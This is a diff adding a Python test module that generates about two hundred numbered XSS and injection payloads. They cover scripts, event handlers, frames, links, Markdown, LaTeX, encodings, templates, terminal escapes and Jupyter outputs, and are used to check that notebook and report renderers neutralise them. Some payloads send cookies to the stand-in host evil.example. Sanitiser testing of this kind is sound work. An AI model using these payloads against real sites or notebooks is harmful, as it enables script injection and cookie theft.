@@ -1,0 +1,212 @@
+"""Texts that try to run a script, to load something from elsewhere or to make a link, wherever they are shown.
+
+    python -m tests.campaigns.payloads     # all payloads through all notebooks and the report, in Chromium: ten minutes
+
+Each has a number of its own. What runs pushes it to `top.__ran`; what loads asks evil.example for it, so the browser
+tells which. As data, so that other campaigns may use them too: `PAYLOADS[n]` is a text.
+"""
+
+RUN = "(top.__ran=top.__ran||[]).push({n})"
+SITE = "http://evil.example/{n}"
+
+TEMPLATES = [
+    # scripts
+    "<script>{run}</script>",
+    "<SCRIPT>{run}</SCRIPT>",
+    "<script type=module>{run}</script>",
+    "<script src={site}></script>",
+    "<script async defer src='{site}.js'></script>",
+    "<script>import('{site}.mjs')</script>",
+    "</script><script>{run}</script>",
+    "</title><script>{run}</script>",
+    "</textarea><script>{run}</script>",
+    "</style><script>{run}</script>",
+    "--><script>{run}</script>",
+    "<!--><script>{run}</script>-->",
+    "<![CDATA[<script>{run}</script>]]>",
+    "<scr<script>ipt>{run}</scr</script>ipt>",
+    "<script\x0c>{run}</script>",
+    "<script>fetch('{site}?'+document.cookie)</script>",
+    "<script>new Image().src='{site}'</script>",
+    "<script>navigator.sendBeacon('{site}','x')</script>",
+    "<script>new WebSocket('ws://evil.example/{n}')</script>",
+    "<script>document.title='taken';{run}</script>",
+    # handlers of events
+    "<img src=x onerror={run}>",
+    "<img src=x onerror='{run}'>",
+    '<img src="x" onerror="{run}">',
+    "<img/src=x/onerror={run}>",
+    "<IMG SRC=x OnErRoR={run}>",
+    "<img src=x:x onerror={run}//>",
+    "<img src onerror={run}>",
+    "<img src=data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw== onload={run}>",
+    "<svg onload={run}>",
+    "<svg/onload={run}>",
+    "<svg><script>{run}</script></svg>",
+    "<svg><script href=data:text/javascript,{run} /></svg>",
+    "<svg><animate onbegin={run} attributeName=x dur=1s>",
+    "<svg><set onbegin={run} attributeName=x>",
+    "<svg><image href=x onerror={run}>",
+    "<svg><use href='{site}.svg#a'/></svg>",
+    "<svg><foreignObject><img src=x onerror={run}></foreignObject></svg>",
+    "<svg><a xlink:href='javascript:{run}'><text y=20>press</text></a></svg>",
+    "<body onload={run}>",
+    "<body onpageshow={run}>",
+    "<input autofocus onfocus={run}>",
+    "<select autofocus onfocus={run}>",
+    "<textarea autofocus onfocus={run}>",
+    "<details open ontoggle={run}>",
+    "<video src=x onerror={run}>",
+    "<video><source onerror={run}></video>",
+    "<audio src=x onerror={run}>",
+    "<style>@keyframes x{{}}</style><b style='animation-name:x' onanimationstart={run}>",
+    "<b style='transition:color 1s' tabindex=0 onfocus={run} autofocus>b</b>",
+    "<marquee onstart={run}>",
+    "<object data=x onerror={run}>",
+    "<div onpointerover={run} style='position:fixed;inset:0'>over everything</div>",
+    "<a href=# onclick={run}>press</a>",
+    '" autofocus onfocus={run} x="',
+    "' onmouseover='{run}",
+    "x onerror={run} src=x",
+    '"><img src=x onerror={run}>',
+    "'><svg onload={run}>",
+    "</td></tr></table><img src=x onerror={run}>",
+    "</pre><img src=x onerror={run}>",
+    # frames and what is embedded
+    "<iframe src='javascript:{run}'></iframe>",
+    "<iframe srcdoc='<script>{run}</script>'></iframe>",
+    "<iframe src='{site}'></iframe>",
+    "<iframe src='data:text/html,<script>{run}</script>'></iframe>",
+    "<object data='{site}'></object>",
+    "<object data='data:text/html,<script>{run}</script>'></object>",
+    "<embed src='{site}'>",
+    "<embed src='javascript:{run}'>",
+    "<portal src='{site}'></portal>",
+    "<form action='javascript:{run}'><button>press</button></form>",
+    "<form id=f action='{site}'><input name=a></form><button form=f formaction='javascript:{run}'>press</button>",
+    "<isindex action='javascript:{run}' type=image>",
+    "<math><mtext><img src=x onerror={run}></mtext></math>",
+    "<math href='javascript:{run}'>press</math>",
+    "<math><annotation-xml encoding='text/html'><img src=x onerror={run}></annotation-xml></math>",
+    "<template><img src=x onerror={run}></template><slot></slot>",
+    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
+    "<xss-element onfocus={run} autofocus tabindex=0>",
+    # what loads, moves or repaints the page
+    "<meta http-equiv=refresh content='0;url={site}'>",
+    "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
+    "<base href='http://evil.example/{n}/'>",
+    "<link rel=stylesheet href='{site}.css'>",
+    "<link rel=icon href='{site}.ico'>",
+    "<link rel=preload as=image href='{site}.png'>",
+    "<link rel=prefetch href='{site}'>",
+    "<link rel=import href='{site}'>",
+    "<style>@import '{site}.css';</style>",
+    "<style>body{{background:url({site}.png)}}</style>",
+    "<style>*{{display:none!important}}</style>",
+    "<b style=\"background:url('{site}.png')\">b</b>",
+    '<b style="list-style:url({site}.png);display:list-item">b</b>',
+    "<b style='width:expression({run})'>b</b>",
+    "<table background='{site}.png'><tr><td>x</table>",
+    "<img src='{site}.png'>",
+    "<img srcset='{site}.png 1x'>",
+    "<picture><source srcset='{site}.png'><img></picture>",
+    "<video poster='{site}.png'></video>",
+    "<audio autoplay src='{site}.mp3'></audio>",
+    "<input type=image src='{site}.png'>",
+    "<svg><image href='{site}.png'/></svg>",
+    "<svg><feImage href='{site}.png'/></svg>",
+    # links
+    "<a href='javascript:{run}'>press</a>",
+    "<a href='JaVaScRiPt:{run}'>press</a>",
+    "<a href='&#106;avascript:{run}'>press</a>",
+    "<a href='java\tscript:{run}'>press</a>",
+    "<a href='\x01javascript:{run}'>press</a>",
+    "<a href='data:text/html,<script>{run}</script>'>press</a>",
+    "<a href='vbscript:{run}'>press</a>",
+    "<a href='{site}' ping='{site}'>press</a>",
+    # Markdown
+    "[press](javascript:{run})",
+    "[press](<javascript:{run}>)",
+    "[press]( javascript&colon;{run})",
+    "![picture]({site}.png)",
+    '![picture](x"onerror={run})',
+    "[press][a]\n\n[a]: javascript:{run}",
+    "![picture][a]\n\n[a]: {site}.png",
+    "<javascript:{run}>",
+    "<{site}>",
+    "`<img src=x onerror={run}>`",
+    "```html\n<img src=x onerror={run}>\n```\n<img src=x onerror={run}>",
+    '```mermaid\ngraph TD\nA[<img src=x onerror={run}>]\nclick A "javascript:{run}"\n```',
+    "\n\n<img src=x onerror={run}>\n\n",
+    "> </blockquote><img src=x onerror={run}>",
+    "| a |\n|---|\n| <img src=x onerror={run}> |",
+    "# <img src=x onerror={run}>",
+    # mathematics
+    "$\\href{{javascript:{run}}}{{press}}$",
+    "$$\\href{{javascript:{run}}}{{press}}$$",
+    "\\(\\href{{javascript:{run}}}{{press}}\\)",
+    "\\[\\unicode{{<img src=x onerror={run}>}}\\]",
+    "$\\style{{background:url({site}.png)}}{{x}}$",
+    "$\\class{{x}}{{\\require{{html}}\\cssId{{a}}{{b}}}}$",
+    "$\\text{{<img src=x onerror={run}>}}$",
+    "\\begin{{equation}}\\href{{javascript:{run}}}{{x}}\\end{{equation}}",
+    "$\\def\\x{{\\x\\x}}\\x$ {n}",
+    "$\\includegraphics{{{site}.png}}$",
+    # entities, encodings and signs that are not what they look like
+    "&lt;img src=x onerror={run}&gt;",
+    "&#60;img src=x onerror={run}&#62;",
+    "&amp;lt;script&amp;gt;{run}&amp;lt;/script&amp;gt;",
+    "%3Cscript%3E{run}%3C/script%3E",
+    "\\u003cscript\\u003e{run}\\u003c/script\\u003e",
+    "\\x3cimg src=x onerror={run}\\x3e",
+    "+ADw-script+AD4-{run}+ADw-/script+AD4-",
+    "\uff1cscript\uff1e{run}\uff1c/script\uff1e",
+    "\ufe64img src=x onerror={run}\ufe65",
+    "<img src=x onerror={run}>\u202egnp.exe",
+    "\u2066<img src=x onerror={run}>\u2069",
+    "<\x00script>{run}</script>",
+    "<img\u2028src=x\u2028onerror={run}>",
+    "<img src=x onerror\u3000={run}>",
+    "<ſcript>{run}</ſcript>",
+    "\U000e003cscript\U000e003e <svg onload={run}>",
+    # templates
+    "{{{{ ''.__class__.__mro__ }}}}<img src=x onerror={run}>",
+    "{{% raw %}}<img src=x onerror={run}>{{% endraw %}}",
+    "{{{{'{n}'|safe}}}}<svg onload={run}>",
+    "${{{run}}}",
+    "#{{{run}}}",
+    "<%= {run} %>",
+    "{{{{constructor.constructor('{run}')()}}}}",
+    # terminals
+    "\x1b]0;taken {n}\x07",
+    "\x1b]8;;javascript:{run}\x1b\\press\x1b]8;;\x1b\\",
+    "\x1b]52;c;ZXZpbA==\x07 {n}",
+    "\x1b[2J\x1b[31m<img src=x onerror={run}>\x1b[0m",
+    "\x9b31m{n}\x08\x08\r<img src=x onerror={run}>",
+    # kinds of notebook output, and their classes
+    '{{"text/html": "<img src=x onerror={run}>"}}',
+    '{{"application/javascript": "{run}"}}',
+    '{{"application/vnd.jupyter.widget-view+json": {{"model_id": "{n}"}}}}',
+    "application/javascript\n{run}",
+    '</script><script type="application/vnd.jupyter.widget-state+json">{{}}</script><script>{run}</script>',
+    "<div class='jp-OutputArea-output' data-mime-type='application/javascript'>{run}</div>",
+    "<button data-commandlinker-command='notebook:restart-run-all' data-commandlinker-args='{{}}'>press {n}</button>",
+    '<div id=jupyter-config-data>{{"baseUrl":"{site}"}}</div>',
+]
+
+
+def payload(n: int, template: str) -> str:
+    """The text of a payload, with its number at each place where it acts."""
+    return template.format(n=n, run=RUN.format(n=n), site=SITE.format(n=n))
+
+
+PAYLOADS = [payload(n, template) for n, template in enumerate(TEMPLATES)]
+
+if __name__ == "__main__":
+    import sys
+    from pathlib import Path
+
+    sys.path.insert(0, str(Path(__file__).parents[1]))
+    from campaigns.in_notebooks import main
+
+    raise SystemExit(main(sys.argv[1:]))
